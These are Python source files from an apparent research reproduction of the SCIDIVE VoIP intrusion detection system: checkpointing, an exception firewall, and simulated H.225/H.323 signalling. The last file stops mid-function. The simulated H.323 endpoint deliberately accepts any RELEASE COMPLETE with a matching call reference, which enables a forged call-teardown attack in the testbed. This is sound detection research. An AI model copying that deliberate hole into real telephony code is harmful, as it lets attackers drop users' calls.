    # chaos lazily keeps `from repro.resilience.firewall import ...`
    # usable from inside the engine without an import cycle.
    if name in _CHAOS_EXPORTS:
        from repro.resilience import chaos

        return getattr(chaos, name)
    raise AttributeError(f"module {__name__!r} has no attribute {name!r}")


__all__ = [
    "CHECKPOINT_VERSION",
    "CheckpointError",
    "RulePackMismatch",
    "engine_checkpoint",
    "engine_restore",
    "ChaosConfig",
    "ChaosReport",
    "format_report",
    "run_chaos",
    "STAGE_DECODER",
    "STAGE_GENERATOR",
    "STAGE_RULE",
    "QUARANTINE_RULE_ID",
    "StageFirewall",
    "OVERLOAD_STATES",
    "STATE_BROWNOUT",
    "STATE_NORMAL",
    "STATE_RECOVERING",
    "STATE_SHED",
    "TRANSITION_RULE_PREFIX",
    "CountMinSketch",
    "EngineOverload",
    "OverloadConfig",
    "OverloadController",
    "SourceAccountant",
    "shed_plan",
]
