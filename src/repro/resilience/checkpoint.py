"""Versioned snapshots of an engine's detection state.

A SCIDIVE worker that crashes and respawns with a fresh engine has
*amnesia*: every trail, SIP dialog state machine, armed orphan-media
watch and rule cooldown on its shard is gone, so the stateful rules the
paper builds its case on (BYE, Call Hijack) silently stop firing for
in-flight calls.  ``ScidiveEngine.checkpoint()`` captures everything
those detectors need into one pickled, versioned payload;
``ScidiveEngine.restore()`` loads it into a fresh engine (same module
configuration) so detection resumes exactly where the snapshot was
taken.

What a checkpoint contains (and why):

* ``trails`` / ``sip_state`` / ``registrations`` — the shared protocol
  state every generator consults.  Captured as whole objects: they are
  plain dicts of frozen-dataclass footprints and messages, all of which
  already cross ``multiprocessing`` queues inside pickled alerts.
* per-generator state — generators are stateful by design (armed
  watches, per-flow sequence windows, per-sender IM bindings).
  Captured generically via ``vars()`` keyed by generator name; a
  generator with ``__slots__`` or private needs can opt into the
  explicit protocol by defining ``checkpoint_state()`` /
  ``restore_state(state)``.
* per-rule state — rules hold lambdas (predicates, group keys), so the
  rule *objects* are not picklable; instead each rule contributes only
  its declared ``state_attrs`` (cooldowns, threshold buckets, sequence
  progress, conjunction members) keyed by rule id, restored into the
  factory-built rule objects.
* the distiller's reassembly buffers and counters — half-assembled
  fragments must survive a respawn or the datagram they belong to is
  lost to detection.
* the alert/event logs and engine counters — a cluster worker reports
  alerts only at stop, so a crash would otherwise also lose every alert
  raised *before* it; restoring them makes crash-then-respawn runs
  alert-multiset-equivalent to uncrashed runs.
* the exception firewall's error/quarantine ledger — a component
  disabled for cause must stay disabled after a respawn.
* the forensics recorder's *malformed* quarantine ring — the bounded
  record of hostile input the decoders rejected (``repro explain
  malformed``).  The per-session evidence rings are deliberately left
  out: alerts carry their own provenance frames.

The payload is ``pickle`` because the state *is* Python object graphs
with shared references (the same footprint appears in a trail and in an
event's evidence); pickle's memo preserves that sharing.  Checkpoints
are an internal transport between one engine build and an identically
configured successor — not an interchange format — which is exactly
pickle's safe habitat.  ``CHECKPOINT_VERSION`` gates shape drift: a
mismatch raises :class:`CheckpointError` rather than resurrecting a
half-compatible ghost.

Snapshots are *bounded*: the event log, the rule history and each
trail's footprint list are serialized as recent tails
(``CHECKPOINT_EVENT_TAIL`` events, ``CHECKPOINT_TRAIL_TAIL`` footprints
per trail).  Those collections are evidence/archival depth — detection
reads them through short time windows (``EventHistory.recent``) or the
newest entries (``Trail.last``, sequence/threshold rule state is
checkpointed separately in full) — while on a media flood they dominate
the snapshot by orders of magnitude.  Without the bound a snapshot
costs O(everything ever seen); with it, O(live detection state).
"""

from __future__ import annotations

import pickle
from typing import TYPE_CHECKING

from repro.obs.logsetup import get_logger

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.core.engine import ScidiveEngine

_log = get_logger("resilience.checkpoint")

CHECKPOINT_VERSION = 1

# Snapshot bounds (see module docstring): archival depth is truncated
# to recent tails, live detection state is always captured in full.
CHECKPOINT_EVENT_TAIL = 512
CHECKPOINT_TRAIL_TAIL = 32

# Sanity marker so a truncated/foreign blob fails loudly before pickle
# tries to interpret it.
_MAGIC = b"SCDV"


class CheckpointError(RuntimeError):
    """Unusable checkpoint: wrong version, wrong magic, or corrupt."""


class RulePackMismatch(CheckpointError):
    """The checkpoint was taken under a different rule pack.

    Restoring rule state (cooldowns, threshold buckets, sequence
    progress) into rules compiled from a *different* policy can
    resurrect suppressions for rules whose meaning changed, so the
    restore refuses by default; pass ``force=True`` (the CLI's
    ``--force``) to accept the cross-pack restore anyway.
    """


# ---------------------------------------------------------------------------
# Per-component capture helpers
# ---------------------------------------------------------------------------


def _generator_state(generator) -> tuple[str, object]:
    """(mode, state) for one generator: explicit protocol, else vars()."""
    capture = getattr(generator, "checkpoint_state", None)
    if capture is not None:
        return ("custom", capture())
    try:
        return ("vars", dict(vars(generator)))
    except TypeError:  # __slots__ without the explicit protocol
        return ("none", None)


def _restore_generator(generator, mode: str, state) -> None:
    if mode == "custom":
        generator.restore_state(state)
    elif mode == "vars":
        generator.__dict__.clear()
        generator.__dict__.update(state)
    # mode == "none": nothing captured, leave the fresh instance alone.


# ---------------------------------------------------------------------------
# Engine-level capture / restore
# ---------------------------------------------------------------------------


def _history_state(history) -> dict:
    """EventHistory as a bounded dict (the object holds every event)."""
    return {
        "max_events": history.max_events,
        "counts": dict(history.counts),
        "events": list(history.events)[-CHECKPOINT_EVENT_TAIL:],
    }


def _restore_history(state: dict):
    from repro.core.rules import EventHistory

    history = EventHistory(max_events=state["max_events"])
    history.counts.update(state["counts"])
    history.events.extend(state["events"])
    return history


def engine_checkpoint(engine: "ScidiveEngine") -> bytes:
    """Serialize ``engine``'s detection state (see module docstring)."""
    payload = {
        "version": CHECKPOINT_VERSION,
        "engine_name": engine.name,
        # Which detection policy the snapshot's rule state belongs to
        # (None for hand-wired class rules).  engine_restore gates on it.
        "rulepack": (
            engine.rulepack.info() if engine.rulepack is not None else None
        ),
        "stats": engine.stats.as_dict(),
        "shadow_stats": engine.shadow_stats.as_dict(),
        "alerts": list(engine.alert_log.alerts),
        "event_log": list(engine.event_log)[-CHECKPOINT_EVENT_TAIL:],
        "trails": engine.trails,
        "sip_state": engine.sip_state,
        "registrations": engine.registrations,
        "generators": {
            generator.name: _generator_state(generator)
            for generator in engine.generators
        },
        "rules": {
            rule.rule_id: rule.checkpoint_state()
            for rule in engine.ruleset.rules
        },
        "rule_history": _history_state(engine.ruleset.history),
        "dispatch_skipped": engine.ruleset.dispatch_skipped,
        "distiller_stats": engine.distiller.stats,
        "reassembler": engine.distiller._reassembler,
        "since_housekeeping": engine._since_housekeeping,
        "expired_trails": engine.expired_trails,
        "firewall": engine.firewall.state() if engine.firewall is not None else None,
        # Only the malformed quarantine crosses the checkpoint; the
        # per-session evidence rings stay behind (alerts already carry
        # their provenance frames, and raw-frame rings are exactly the
        # unbounded bulk the snapshot bounds exist to keep out).
        "malformed_quarantine": (
            engine.forensics.malformed_state()
            if engine.forensics is not None
            else None
        ),
    }
    # Bound per-trail footprint depth for the duration of the dump: the
    # tails are swapped in on the live Trail objects (so the sessions
    # that share them pickle consistently) and swapped back afterwards.
    trimmed = []
    for trail in engine.trails.trails.values():
        dropped = len(trail.footprints) - CHECKPOINT_TRAIL_TAIL
        if dropped > 0:
            trimmed.append((trail, trail.footprints, trail.evicted))
            trail.footprints = trail.footprints[-CHECKPOINT_TRAIL_TAIL:]
            trail.evicted += dropped
    try:
        return _MAGIC + pickle.dumps(payload, protocol=pickle.HIGHEST_PROTOCOL)
    finally:
        for trail, footprints, evicted in trimmed:
            trail.footprints = footprints
            trail.evicted = evicted


def engine_restore(engine: "ScidiveEngine", blob: bytes, force: bool = False) -> None:
    """Load a checkpoint into ``engine`` (same module configuration).

    Components present in the snapshot but absent from the engine (or
    vice versa) are skipped: the engine keeps its factory-fresh state
    for anything the snapshot does not cover, so config drift degrades
    to partial amnesia instead of an exception storm.  The rule pack is
    the exception: a snapshot taken under a different pack identity
    raises :class:`RulePackMismatch` unless ``force`` is set, because
    silently mixing one policy's rule state into another's rules is
    config drift of the *detection semantics*, not of the plumbing.
    """
    from repro.core.engine import EngineStats
    from repro.core.events import GeneratorContext

    if not blob.startswith(_MAGIC):
        raise CheckpointError("not a SCIDIVE checkpoint (bad magic)")
    try:
        payload = pickle.loads(blob[len(_MAGIC):])
    except Exception as exc:
        raise CheckpointError(f"corrupt checkpoint: {exc}") from exc
    version = payload.get("version")
    if version != CHECKPOINT_VERSION:
        raise CheckpointError(
            f"checkpoint version {version!r} != supported {CHECKPOINT_VERSION}"
        )
    if not force:
        # Symmetric gate: None (class-built rules) is a pack identity
        # too — a packless snapshot must not slide into a compiled-pack
        # engine any more than the reverse.
        snapshot_pack = payload.get("rulepack")
        snapshot_label = (
            snapshot_pack.get("label") if snapshot_pack is not None else None
        )
        current_label = (
            engine.rulepack.label if engine.rulepack is not None else None
        )
        if snapshot_label != current_label:
            raise RulePackMismatch(
                f"checkpoint was taken under rule pack {snapshot_label!r} "
                f"but the engine runs {current_label!r}; pass force=True "
                "(--force) to restore across packs"
            )
    engine.stats = EngineStats.from_dict(payload["stats"])
    engine.shadow_stats = EngineStats.from_dict(payload["shadow_stats"])
    # In-place so AlertLog subscribers (forensics, instrumentation) and
    # any held references stay wired; restored alerts are not re-emitted.
    engine.alert_log.alerts[:] = payload["alerts"]
    engine.event_log[:] = payload["event_log"]
    engine.trails = payload["trails"]
    engine.sip_state = payload["sip_state"]
    engine.registrations = payload["registrations"]
    # The generator context holds direct references to the replaced
    # trackers; rebuild it or generators would keep feeding the old ones.
    engine._ctx = GeneratorContext(
        trails=engine.trails,
        sip_state=engine.sip_state,
        registrations=engine.registrations,
        vantage_ip=engine.vantage_ip,
        vantage_mac=engine.vantage_mac,
    )
    generator_states = payload["generators"]
    for generator in engine.generators:
        entry = generator_states.get(generator.name)
        if entry is not None:
            _restore_generator(generator, entry[0], entry[1])
    rule_states = payload["rules"]
    for rule in engine.ruleset.rules:
        state = rule_states.get(rule.rule_id)
        if state is not None:
            rule.restore_state(state)
    engine.ruleset.history = _restore_history(payload["rule_history"])
    engine.ruleset.dispatch_skipped = payload["dispatch_skipped"]
    engine.ruleset._ctx = None  # held a reference to the old history
    engine.distiller.stats = payload["distiller_stats"]
    engine.distiller._reassembler = payload["reassembler"]
    engine._since_housekeeping = payload["since_housekeeping"]
    engine.expired_trails = payload["expired_trails"]
    firewall_state = payload.get("firewall")
    if engine.firewall is not None and firewall_state is not None:
        engine.firewall.load_state(firewall_state)
        _reapply_quarantines(engine)
    malformed = payload.get("malformed_quarantine")
    if engine.forensics is not None and malformed:
        engine.forensics.load_malformed_state(malformed)
    _log.info(
        "checkpoint restored",
        extra={"fields": {
            "engine": engine.name,
            "alerts": len(engine.alert_log.alerts),
            "trails": engine.trails.trail_count,
            "frames": engine.stats.frames,
        }},
    )


def _reapply_quarantines(engine: "ScidiveEngine") -> None:
    """Re-disable components the snapshot's firewall had quarantined —
    the respawned engine was factory-built with all of them present."""
    from repro.resilience.firewall import (
        STAGE_DECODER,
        STAGE_GENERATOR,
        STAGE_RULE,
    )

    for stage, component in engine.firewall.quarantined:
        if stage == STAGE_RULE:
            engine.ruleset.remove(component)
        elif stage == STAGE_GENERATOR:
            engine.generators = [
                g for g in engine.generators if g.name != component
            ]
        elif stage == STAGE_DECODER:
            engine.distiller.decoders = tuple(
                d for d in engine.distiller.decoders
                if getattr(d, "__name__", repr(d)) != component
            )
