"""The per-stage exception firewall: quarantine, count, circuit-break.

The frame path runs three kinds of third-party-extensible callbacks —
protocol decoders, event generators, rules — and any of them throwing
used to abort ``process_frame`` mid-pipeline, which is exactly the
parser-crash evasion vector the DPI literature warns about: feed the
IDS one frame its decoder chokes on and every later attack goes unseen.

The firewall turns a throwing component into a contained incident:

* the exception is swallowed at the stage boundary and the pipeline
  continues with the remaining components;
* the error is counted per ``(stage, component)`` — mirrored into the
  ``scidive_stage_errors_total`` metric family when a registry is
  attached;
* after ``threshold`` errors from one component the circuit breaker
  trips: the caller removes the component from dispatch (rules leave
  the RuleSet, generators leave the engine's generator list, decoders
  leave the distiller chain) and the firewall raises one CRITICAL
  self-diagnostic alert so the degradation is *visible*, not silent.

One :class:`StageFirewall` instance is shared by an engine's distiller,
generator loop and ruleset; it costs nothing until an exception is
actually raised (the stage loops only consult it inside ``except``).
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Callable

from repro.core.alerts import Alert, Severity
from repro.obs.logsetup import get_logger

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.obs.registry import MetricsRegistry

_log = get_logger("resilience.firewall")

STAGE_DECODER = "decoder"
STAGE_GENERATOR = "generator"
STAGE_RULE = "rule"

# The self-diagnostic rule id: quarantine alerts must be greppable and
# must never collide with a detection rule.
QUARANTINE_RULE_ID = "SELF-QUARANTINE"

DEFAULT_THRESHOLD = 5


class StageFirewall:
    """Error accounting + circuit breaker for one engine's stages."""

    def __init__(
        self,
        engine_name: str = "scidive",
        threshold: int = DEFAULT_THRESHOLD,
        registry: "MetricsRegistry | None" = None,
        emit_alert: Callable[[Alert], None] | None = None,
    ) -> None:
        if threshold < 1:
            raise ValueError(f"threshold must be >= 1 (got {threshold})")
        self.engine_name = engine_name
        self.threshold = threshold
        self.errors: dict[tuple[str, str], int] = {}
        self.quarantined: list[tuple[str, str]] = []
        self.last_error: dict[tuple[str, str], str] = {}
        # Wired by the engine to AlertLog.emit; None = count only.
        self.emit_alert = emit_alert
        self._counter = None
        if registry is not None:
            self.bind_registry(registry)

    def bind_registry(self, registry: "MetricsRegistry") -> None:
        self._counter = registry.counter(
            "scidive_stage_errors_total",
            "Exceptions caught at a pipeline stage boundary",
            labelnames=("engine", "stage", "component"),
        )

    # -- the boundary ---------------------------------------------------------

    def record_error(
        self, stage: str, component: str, exc: BaseException, when: float = 0.0
    ) -> bool:
        """Count one caught exception.  Returns True exactly once per
        component: on the call that trips its circuit breaker — the
        caller must then remove the component from dispatch."""
        key = (stage, component)
        count = self.errors.get(key, 0) + 1
        self.errors[key] = count
        self.last_error[key] = f"{type(exc).__name__}: {exc}"
        if self._counter is not None:
            self._counter.labels(
                engine=self.engine_name, stage=stage, component=component
            ).inc()
        _log.warning(
            "stage error quarantined",
            extra={"fields": {
                "engine": self.engine_name, "stage": stage,
                "component": component, "count": count,
                "error": self.last_error[key],
            }},
        )
        if count != self.threshold or key in self.quarantined:
            return False
        self.quarantined.append(key)
        if self.emit_alert is not None:
            self.emit_alert(self._quarantine_alert(stage, component, when))
        return True

    def _quarantine_alert(self, stage: str, component: str, when: float) -> Alert:
        key = (stage, component)
        return Alert(
            rule_id=QUARANTINE_RULE_ID,
            rule_name="self-diagnostic: pipeline component quarantined",
            time=when,
            session="",
            severity=Severity.CRITICAL,
            attack_class="self-diagnostic",
            message=(
                f"{stage} {component!r} disabled after "
                f"{self.errors.get(key, 0)} errors "
                f"(last: {self.last_error.get(key, 'unknown')})"
            ),
        )

    def is_quarantined(self, stage: str, component: str) -> bool:
        return (stage, component) in self.quarantined

    @property
    def total_errors(self) -> int:
        return sum(self.errors.values())

    # -- surfacing / checkpointing --------------------------------------------

    def as_dict(self) -> dict:
        """The /healthz + checkpoint shape (plain JSON-safe types)."""
        return {
            "threshold": self.threshold,
            "total_errors": self.total_errors,
            "errors": {
                f"{stage}:{component}": count
                for (stage, component), count in self.errors.items()
            },
            "quarantined": [list(key) for key in self.quarantined],
        }

    def state(self) -> dict:
        """Checkpointable state (see repro.resilience.checkpoint)."""
        return {
            "errors": dict(self.errors),
            "quarantined": list(self.quarantined),
            "last_error": dict(self.last_error),
        }

    def load_state(self, state: dict) -> None:
        self.errors = dict(state.get("errors", {}))
        self.quarantined = [tuple(key) for key in state.get("quarantined", [])]
        self.last_error = dict(state.get("last_error", {}))
