"""H.225.0 RAS — registration, admission and status (compact subset).

The paper: "Within an H.323 network, an optional gatekeeper may be
present.  The gatekeeper performs several functions including
authorizing network access ... and providing address-translation
services."  This module provides exactly that: endpoints register their
alias (RRQ→RCF), and callers resolve a callee's transport address
before dialling (ARQ→ACF/ARJ).

Wire format: one type octet, a 16-bit sequence number, then the same
TLV information elements H.225 uses (alias = called party IE, transport
address = media IE).  Runs on the conventional RAS port 1719.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass

from repro.h323.h225 import IE, H225Error
from repro.net.addr import Endpoint, IPv4Address
from repro.net.stack import HostStack

RAS_PORT = 1719


class RasType(enum.IntEnum):
    RRQ = 0x01  # registration request
    RCF = 0x02  # registration confirm
    RRJ = 0x03  # registration reject
    ARQ = 0x0A  # admission request (address resolution)
    ACF = 0x0B  # admission confirm
    ARJ = 0x0C  # admission reject
    URQ = 0x10  # unregistration request
    UCF = 0x11  # unregistration confirm


@dataclass(frozen=True, slots=True)
class RasMessage:
    ras_type: RasType
    sequence: int
    alias: str = ""
    address: Endpoint | None = None

    def encode(self) -> bytes:
        out = bytearray([int(self.ras_type)])
        out += (self.sequence & 0xFFFF).to_bytes(2, "big")
        if self.alias:
            data = self.alias.encode("ascii")
            out += bytes([int(IE.CALLED_PARTY), len(data)]) + data
        if self.address is not None:
            data = self.address.ip.to_bytes() + self.address.port.to_bytes(2, "big")
            out += bytes([int(IE.FAST_START_MEDIA), len(data)]) + data
        return bytes(out)

    @classmethod
    def decode(cls, raw: bytes) -> "RasMessage":
        if len(raw) < 3:
            raise H225Error(f"too short for RAS: {len(raw)}")
        try:
            ras_type = RasType(raw[0])
        except ValueError as exc:
            raise H225Error(f"unknown RAS type: {raw[0]:#x}") from exc
        sequence = int.from_bytes(raw[1:3], "big")
        alias = ""
        address: Endpoint | None = None
        offset = 3
        while offset < len(raw):
            if offset + 2 > len(raw):
                raise H225Error("truncated RAS IE")
            ie_id, length = raw[offset], raw[offset + 1]
            offset += 2
            data = raw[offset : offset + length]
            if len(data) != length:
                raise H225Error("truncated RAS IE body")
            offset += length
            if ie_id == IE.CALLED_PARTY:
                alias = data.decode("ascii", errors="replace")
            elif ie_id == IE.FAST_START_MEDIA:
                if length != 6:
                    raise H225Error(f"bad RAS address IE: {length}")
                address = Endpoint(
                    IPv4Address.from_bytes(data[:4]), int.from_bytes(data[4:], "big")
                )
        return cls(ras_type=ras_type, sequence=sequence, alias=alias, address=address)


class Gatekeeper:
    """Alias → call-signalling-address registry (direct-routed mode)."""

    def __init__(self, stack: HostStack, port: int = RAS_PORT) -> None:
        self.stack = stack
        self.port = port
        self.socket = stack.bind(port, self._on_datagram)
        self.registrations: dict[str, Endpoint] = {}
        self.admissions_granted = 0
        self.admissions_rejected = 0

    def _on_datagram(self, payload: bytes, src: Endpoint, now: float) -> None:
        try:
            message = RasMessage.decode(payload)
        except H225Error:
            return
        if message.ras_type == RasType.RRQ:
            if message.alias and message.address is not None:
                self.registrations[message.alias] = message.address
                reply = RasMessage(RasType.RCF, message.sequence, alias=message.alias)
            else:
                reply = RasMessage(RasType.RRJ, message.sequence, alias=message.alias)
        elif message.ras_type == RasType.URQ:
            self.registrations.pop(message.alias, None)
            reply = RasMessage(RasType.UCF, message.sequence, alias=message.alias)
        elif message.ras_type == RasType.ARQ:
            address = self.registrations.get(message.alias)
            if address is not None:
                self.admissions_granted += 1
                reply = RasMessage(
                    RasType.ACF, message.sequence, alias=message.alias, address=address
                )
            else:
                self.admissions_rejected += 1
                reply = RasMessage(RasType.ARJ, message.sequence, alias=message.alias)
        else:
            return  # confirmations are for endpoints, not us
        self.socket.send_to(src, reply.encode())

    @property
    def endpoint(self) -> Endpoint:
        return Endpoint(self.stack.ip, self.port)
