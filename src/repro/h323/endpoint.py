"""H.323 terminals: fast-connect calls with RTP media.

An :class:`H323Endpoint` registers its alias with the gatekeeper,
resolves callees via ARQ/ACF, and runs the basic-call ladder
SETUP → CALL PROCEEDING → ALERTING → CONNECT, carrying media addresses
in the fast-connect IE so RTP starts right after CONNECT.  RELEASE
COMPLETE tears the call down — and, exactly like the SIP UAs, the
terminal honours any RELEASE COMPLETE whose CRV matches, which is the
vulnerability the forged-release attack (the H.323 analogue of the BYE
attack) exploits.
"""

from __future__ import annotations

import enum
import itertools
import random
from dataclasses import dataclass, field
from typing import Callable

from repro.h323.h225 import H225_PORT, H225Error, H225Message, MessageType, looks_like_h225
from repro.h323.ras import RAS_PORT, RasMessage, RasType
from repro.net.addr import Endpoint
from repro.net.stack import HostStack
from repro.rtp.session import RtpSession
from repro.rtp.codec import ToneSource
from repro.sim.eventloop import EventLoop


class H323CallState(enum.Enum):
    DIALING = "dialing"
    RINGING = "ringing"
    ACTIVE = "active"
    RELEASED = "released"
    FAILED = "failed"


@dataclass(slots=True)
class H323Call:
    """One terminal's view of one H.323 call."""

    call_reference: int
    peer_alias: str
    outgoing: bool
    state: H323CallState = H323CallState.DIALING
    peer_signaling: Endpoint | None = None
    remote_media: Endpoint | None = None
    rtp: RtpSession | None = None
    established_at: float | None = None
    released_at: float | None = None
    released_by_peer: bool = False


class H323Endpoint:
    """A hardphone/terminal speaking H.225 fast connect."""

    def __init__(
        self,
        stack: HostStack,
        loop: EventLoop,
        alias: str,
        gatekeeper: Endpoint | None = None,
        port: int = H225_PORT,
        rtp_base: int = 38000,
        answer_delay: float = 0.2,
        tone_hz: float = 520.0,
    ) -> None:
        self.stack = stack
        self.loop = loop
        self.alias = alias
        self.gatekeeper = gatekeeper
        self.port = port
        self.answer_delay = answer_delay
        self.tone_hz = tone_hz
        self.socket = stack.bind(port, self._on_signaling)
        self.ras_socket = stack.bind_ephemeral(self._on_ras)
        self.calls: dict[int, H323Call] = {}  # keyed by CRV
        self.registered = False
        self._crv = itertools.count(random.Random(sum(alias.encode())).randrange(1, 1000))
        self._ras_seq = itertools.count(1)
        self._rtp_ports = itertools.count(rtp_base, 2)
        self._pending_admissions: dict[int, Callable[[Endpoint | None], None]] = {}
        self.decode_errors = 0

    # -- RAS --------------------------------------------------------------

    def register(self) -> None:
        if self.gatekeeper is None:
            raise RuntimeError(f"{self.alias}: no gatekeeper configured")
        rrq = RasMessage(
            RasType.RRQ,
            next(self._ras_seq),
            alias=self.alias,
            address=Endpoint(self.stack.ip, self.port),
        )
        self.ras_socket.send_to(self.gatekeeper, rrq.encode())

    def _resolve(self, alias: str, done: Callable[[Endpoint | None], None]) -> None:
        if self.gatekeeper is None:
            done(None)
            return
        sequence = next(self._ras_seq)
        self._pending_admissions[sequence] = done
        arq = RasMessage(RasType.ARQ, sequence, alias=alias)
        self.ras_socket.send_to(self.gatekeeper, arq.encode())

    def _on_ras(self, payload: bytes, src: Endpoint, now: float) -> None:
        try:
            message = RasMessage.decode(payload)
        except H225Error:
            self.decode_errors += 1
            return
        if message.ras_type == RasType.RCF:
            self.registered = True
        elif message.ras_type in (RasType.ACF, RasType.ARJ):
            done = self._pending_admissions.pop(message.sequence, None)
            if done is not None:
                done(message.address if message.ras_type == RasType.ACF else None)

    # -- placing calls --------------------------------------------------------

    def call(self, callee_alias: str) -> H323Call:
        crv = next(self._crv) & 0xFFFF
        rtp = self._new_rtp()
        call = H323Call(call_reference=crv, peer_alias=callee_alias, outgoing=True, rtp=rtp)
        self.calls[crv] = call

        def admitted(address: Endpoint | None) -> None:
            if address is None:
                call.state = H323CallState.FAILED
                rtp.close()
                return
            call.peer_signaling = address
            setup = H225Message(
                message_type=MessageType.SETUP,
                call_reference=crv,
                calling_party=self.alias,
                called_party=callee_alias,
                media=Endpoint(self.stack.ip, rtp.local_port),
            )
            self.socket.send_to(address, setup.encode())

        self._resolve(callee_alias, admitted)
        return call

    def release(self, call: H323Call, cause: int = 16) -> None:
        """Send RELEASE COMPLETE (cause 16 = normal clearing)."""
        if call.peer_signaling is None:
            raise RuntimeError("call has no signalling peer")
        message = H225Message(
            message_type=MessageType.RELEASE_COMPLETE,
            call_reference=call.call_reference,
            calling_party=self.alias,
            cause=cause,
        )
        self.socket.send_to(call.peer_signaling, message.encode())
        self._conclude(call, by_peer=False)

    def _new_rtp(self) -> RtpSession:
        port = next(self._rtp_ports)
        return RtpSession(
            self.stack, self.loop, port, source=ToneSource(frequency=self.tone_hz)
        )

    # -- signalling receive ------------------------------------------------------

    def _on_signaling(self, payload: bytes, src: Endpoint, now: float) -> None:
        try:
            message = H225Message.decode(payload)
        except H225Error:
            self.decode_errors += 1
            return
        handlers = {
            MessageType.SETUP: self._on_setup,
            MessageType.ALERTING: self._on_alerting,
            MessageType.CALL_PROCEEDING: self._on_alerting,
            MessageType.CONNECT: self._on_connect,
            MessageType.RELEASE_COMPLETE: self._on_release,
        }
        handlers[message.message_type](message, src, now)

    def _on_setup(self, message: H225Message, src: Endpoint, now: float) -> None:
        if message.call_reference in self.calls:
            return  # retransmission
        rtp = self._new_rtp()
        call = H323Call(
            call_reference=message.call_reference,
            peer_alias=message.calling_party,
            outgoing=False,
            state=H323CallState.RINGING,
            peer_signaling=src,
            remote_media=message.media,
            rtp=rtp,
        )
        self.calls[message.call_reference] = call
        alerting = H225Message(
            message_type=MessageType.ALERTING, call_reference=message.call_reference
        )
        self.socket.send_to(src, alerting.encode())

        def answer() -> None:
            if call.state != H323CallState.RINGING:
                return
            connect = H225Message(
                message_type=MessageType.CONNECT,
                call_reference=message.call_reference,
                called_party=self.alias,
                media=Endpoint(self.stack.ip, rtp.local_port),
            )
            self.socket.send_to(src, connect.encode())
            call.state = H323CallState.ACTIVE
            call.established_at = self.loop.now()
            if call.remote_media is not None:
                rtp.start_sending(call.remote_media)

        self.loop.call_later(self.answer_delay, answer)

    def _on_alerting(self, message: H225Message, src: Endpoint, now: float) -> None:
        call = self.calls.get(message.call_reference)
        if call is not None and call.state == H323CallState.DIALING:
            call.state = H323CallState.RINGING

    def _on_connect(self, message: H225Message, src: Endpoint, now: float) -> None:
        call = self.calls.get(message.call_reference)
        if call is None or call.state not in (H323CallState.DIALING, H323CallState.RINGING):
            return
        call.state = H323CallState.ACTIVE
        call.established_at = now
        call.remote_media = message.media
        if call.rtp is not None and message.media is not None:
            call.rtp.start_sending(message.media)

    def _on_release(self, message: H225Message, src: Endpoint, now: float) -> None:
        call = self.calls.get(message.call_reference)
        if call is None:
            return
        # THE VULNERABILITY (mirroring SIP): any RELEASE COMPLETE with a
        # matching CRV is honoured, wherever it came from.
        self._conclude(call, by_peer=True)

    def _conclude(self, call: H323Call, by_peer: bool) -> None:
        if call.state == H323CallState.RELEASED:
            return
        call.state = H323CallState.RELEASED
        call.released_at = self.loop.now()
        call.released_by_peer = by_peer
        if call.rtp is not None:
            call.rtp.stop_sending()

    # -- introspection --------------------------------------------------------------

    def active_calls(self) -> list[H323Call]:
        return [c for c in self.calls.values() if c.state == H323CallState.ACTIVE]
