"""H.225.0 call signalling — the Q.931-flavoured compact subset.

The paper's §2.1 describes H.323 as the then-dominant VoIP standard,
with H.225.0 handling call setup.  To demonstrate SCIDIVE's claim of
operating "with both classes of protocols" (any CMP, not just SIP),
this module implements a faithful-in-shape H.225 subset:

* Q.931 framing: protocol discriminator 0x08, a 16-bit call reference
  value (CRV), a message type octet, then information elements (IEs)
  as type/length/value triples;
* the five message types a basic call uses — SETUP, CALL PROCEEDING,
  ALERTING, CONNECT, RELEASE COMPLETE — with their real Q.931 codes;
* calling/called party number IEs and a Fast-Connect-style media
  address IE (stand-in for the PER-encoded ``fastStart`` H.245
  elements), so media negotiation happens in the signalling exactly as
  H.323 fast connect does.

Substitution note (documented in DESIGN.md): real H.225 runs over TCP;
this testbed's transport is UDP end to end.  Nothing the IDS reasons
about (message sequence, CRV matching, media addresses) depends on the
transport framing.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field

from repro.net.addr import Endpoint, IPv4Address

H225_PORT = 1720
Q931_PROTOCOL_DISCRIMINATOR = 0x08


class H225Error(ValueError):
    """Raised when bytes cannot be decoded as H.225."""


class MessageType(enum.IntEnum):
    """Q.931 message type codes used by H.225 basic call."""

    ALERTING = 0x01
    CALL_PROCEEDING = 0x02
    CONNECT = 0x07
    SETUP = 0x05
    RELEASE_COMPLETE = 0x5A


class IE(enum.IntEnum):
    """Information element identifiers (Q.931 where they exist)."""

    CAUSE = 0x08
    CALLING_PARTY = 0x6C
    CALLED_PARTY = 0x70
    FAST_START_MEDIA = 0x7E  # user-user IE, carrying our media address


@dataclass(frozen=True, slots=True)
class H225Message:
    """One H.225 call-signalling message."""

    message_type: MessageType
    call_reference: int  # 16-bit CRV; the call's on-the-wire identity
    calling_party: str = ""
    called_party: str = ""
    media: Endpoint | None = None  # fast-connect media address
    cause: int | None = None  # for RELEASE COMPLETE

    def __post_init__(self) -> None:
        if not 0 <= self.call_reference <= 0xFFFF:
            raise H225Error(f"CRV out of range: {self.call_reference}")

    # -- codec ----------------------------------------------------------

    def encode(self) -> bytes:
        out = bytearray()
        out.append(Q931_PROTOCOL_DISCRIMINATOR)
        out.append(2)  # call reference length
        out += self.call_reference.to_bytes(2, "big")
        out.append(int(self.message_type))
        for ie_id, data in self._ies():
            if len(data) > 255:
                raise H225Error(f"IE {ie_id} too long: {len(data)}")
            out.append(int(ie_id))
            out.append(len(data))
            out += data
        return bytes(out)

    def _ies(self) -> list[tuple[IE, bytes]]:
        ies: list[tuple[IE, bytes]] = []
        if self.calling_party:
            ies.append((IE.CALLING_PARTY, self.calling_party.encode("ascii")))
        if self.called_party:
            ies.append((IE.CALLED_PARTY, self.called_party.encode("ascii")))
        if self.media is not None:
            ies.append(
                (IE.FAST_START_MEDIA, self.media.ip.to_bytes() + self.media.port.to_bytes(2, "big"))
            )
        if self.cause is not None:
            ies.append((IE.CAUSE, bytes([self.cause & 0x7F])))
        return ies

    @classmethod
    def decode(cls, raw: bytes) -> "H225Message":
        if len(raw) < 5:
            raise H225Error(f"too short for H.225: {len(raw)} bytes")
        if raw[0] != Q931_PROTOCOL_DISCRIMINATOR:
            raise H225Error(f"bad protocol discriminator: {raw[0]:#x}")
        if raw[1] != 2:
